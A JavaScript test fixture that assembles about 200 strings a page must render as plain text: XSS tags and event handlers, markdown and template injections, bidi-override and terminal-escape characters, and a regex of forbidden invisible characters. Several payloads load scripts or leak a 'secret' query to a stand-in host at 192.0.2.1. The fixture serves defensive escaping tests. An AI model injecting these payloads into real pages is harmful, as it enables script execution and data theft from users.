/** Texts that must stay texts: about 200, made of a list of kinds. */

const FRAGMENTS = [
  "<script>ran()</script>",
  "<script src=http://192.0.2.1/x.js></script>",
  "<img src=x onerror=ran()>",
  "<img src=http://192.0.2.1/x.png>",
  "<svg onload=ran()>",
  "<svg><script>ran()</script></svg>",
  "<iframe src=javascript:ran()></iframe>",
  "<iframe srcdoc='<script>parent.ran()</script>'>",
  "<object data=javascript:ran()>",
  "<embed src=javascript:ran()>",
  "<a href=javascript:ran()>x</a>",
  "<a href=http://192.0.2.1/?q=secret>x</a>",
  "<form action=http://192.0.2.1/><button>x</button></form>",
  "<base href=http://192.0.2.1/>",
  "<link rel=stylesheet href=http://192.0.2.1/x.css>",
  "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
  "<style>*{background:url(http://192.0.2.1/)}</style>",
  "<math><mtext><script>ran()</script>",
  "<details open ontoggle=ran()>",
  "<video><source onerror=ran()></video>",
  "<body onload=ran()>",
  "<input autofocus onfocus=ran()>",
  "<marquee onstart=ran()>",
  "<template><script>ran()</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  "<textarea></textarea><script>ran()</script>",
  "<!--<img src=--><img src=x onerror=ran()>//>",
  "<x onclick=ran()>x</x>",
  "<b onmouseover=ran()>x</b>",
  "<portal src=http://192.0.2.1/>",
];

const MARKDOWN = [
  "![x](http://192.0.2.1/x.png)",
  "[x](javascript:ran())",
  "[x](http://192.0.2.1/?q=secret)",
  "<http://192.0.2.1/>",
  "http://192.0.2.1/auto",
  "[x]: http://192.0.2.1/",
  "```html\n<script>ran()</script>\n```",
  "`<script>ran()</script>`",
  "**<img src=x onerror=ran()>**",
  "- <svg onload=ran()>",
  "# <script>ran()</script>",
  "| <img src=x onerror=ran()> |",
  "1. [a](data:text/html,<script>ran()</script>)",
  "*_`*_`*_`",
  "````\n```\n<script>ran()</script>",
  "> <iframe src=javascript:ran()>",
  "***",
  "__proto__",
  "constructor",
  "${ran()}",
  "{{ran()}}",
  "<%= ran() %>",
  "javascript:ran()//",
  "\\u003cscript>ran()\\u003c/script>",
];

const HIDDEN = [
  "\u202eran\u202c",
  "\u2066hidden\u2069",
  "a\u200bb\u200bc",
  "\ufeffstart",
  "pay \u202d100\u202c",
  "\u061c mark",
  "soft\u00adhyphen",
  "\u2028line\u2029paragraph",
  "\u001b[31mred\u001b[0m",
  "\u001b]8;;http://192.0.2.1\u0007link\u001b]8;;\u0007",
  "\u0000null",
  "bell\u0007",
  "back\b\b\bspace",
  "\u009b31mcsi",
  "\r\rreturn",
  "del\u007f",
  "\u{e0041}\u{e0042}\u{e0043}tags",
  "x\u{e0100}\u{e0101}selectors",
  "\u3164filler\u115f",
  "Z\u0335\u0321\u0322a\u0336lgo\u0337".padEnd(60, "\u0336"),
  "\u2062times",
  "\u180evowel",
];

const QUOTES = ["", '"', "'", '">', "'>", "</pre>", "</code></pre>", "]]>", "--></script>"];

/** @type {string[]} */
export const PAYLOADS = [...FRAGMENTS, ...MARKDOWN, ...HIDDEN];
for (const quote of QUOTES.slice(1))
  for (const fragment of FRAGMENTS.slice(0, 16)) PAYLOADS.push(`${quote}${fragment}`);
PAYLOADS.length = 200;

/** Characters that no text of the page may contain. */
export const FORBIDDEN =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u115f\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\u{e0000}-\u{e01ef}]/u;
